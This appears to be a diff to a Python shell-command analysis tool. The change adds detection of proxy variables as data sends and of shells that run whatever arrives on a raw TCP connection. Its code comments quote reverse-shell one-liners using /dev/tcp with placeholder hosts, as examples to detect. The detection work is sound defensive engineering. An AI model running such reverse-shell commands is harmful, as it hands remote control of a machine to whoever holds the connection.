@@ -18,7 +18,6 @@ import time
 from collections.abc import Callable, Iterable
 
 from pipeline.analysis.shell.commands import KEYWORDS, run_command_words
-from pipeline.analysis.shell.tables import SHELLS
 from pipeline.analysis.shell.ctx import Ctx
 from pipeline.analysis.shell.model import (
     ASSIGN_RE,
@@ -38,6 +37,7 @@ from pipeline.analysis.shell.model import (
     budget,
 )
 from pipeline.analysis.shell.syntax import Stage, parse
+from pipeline.analysis.shell.tables import PROXY_VARS, SHELLS, WRAPPERS
 from pipeline.analysis.shell.tree import PARSE_CPU_SECONDS
 from pipeline.analysis.shell.words import HD_RE, SUB_RE, restore_private
 
@@ -111,7 +111,11 @@ class Analyser:
         return tuple(out)
 
     def assign(self, name: str, raw: str | None) -> None:
-        """``NAME=raw``: a literal value is remembered; a computed one is unknown."""
+        """``NAME=raw``: a literal value is remembered; a computed one is unknown. A proxy
+        variable (``http_proxy=http://h:3128 curl localhost``) is where later requests of
+        the command go: a send, so a loopback URL after it is no longer local."""
+        if name.lower() in PROXY_VARS and raw:
+            self.acc.add("sends", self.restore(raw))
         dyn = raw is None or bool(SUB_RE.search(raw) or VAR_RE.search(raw))
         self.env[name] = None if dyn else [raw or ""]
         self.var_sources[name] = self.sources(raw) if raw is not None else ()
@@ -211,9 +215,10 @@ class Analyser:
             if tcp:
                 peer = f"{tcp.group(1)}://{tcp.group(2)}:{tcp.group(3)}"
                 ctx.send(peer)
-                if words and words[0].rsplit("/", 1)[-1] in SHELLS:
-                    # a shell with a stream on a raw connection (`bash -i >& /dev/tcp/h/p 0>&1`,
-                    # `sh < /dev/tcp/h/p`: a reverse shell) runs what the peer sends
+                if _reads_its_program(words, self.restore):
+                    # a shell with no script of its own and a stream on a raw connection
+                    # (`bash -i >& /dev/tcp/h/p 0>&1`, `nohup sh < /dev/tcp/h/p &`: a reverse
+                    # shell) runs what the peer sends; `bash job.sh > /dev/tcp/h/p` only writes
                     self.acc.add("executes", peer)
                 if op != "<":
                     for r in list(dict.fromkeys(stdin.resources + tuple(ctx.stage_reads))):
@@ -241,6 +246,21 @@ class Analyser:
     def dispatch(self, words: list[str], ctx: Ctx) -> None:
         run_command_words(words, ctx)
 
+
+
+def _reads_its_program(words: list[str], restore: Callable[[str], str]) -> bool:
+    """True for a shell (behind wrappers: sudo, nohup, env X=1, timeout 10, exec) given no
+    script and no ``-c`` text: it runs what arrives on its input."""
+    texts = [restore(w) for w in words]
+    i = 0
+    while i < len(texts) and (texts[i].rsplit("/", 1)[-1] in WRAPPERS or texts[i].startswith("-")
+                              or "=" in texts[i] or re.fullmatch(r"\d+[smhd]?", texts[i])):
+        i += 1
+    if i >= len(texts) or texts[i].rsplit("/", 1)[-1] not in SHELLS:
+        return False
+    rest = texts[i + 1:]
+    return not any(not t.startswith("-") or t == "-c" or (t.startswith("-") and "c" in t[1:] and not t.startswith("--"))
+                   for t in rest)
 
 
 def analyse(cmd: str, code: CodeAnalyser, depth: int = 0) -> ShellAnalysis:
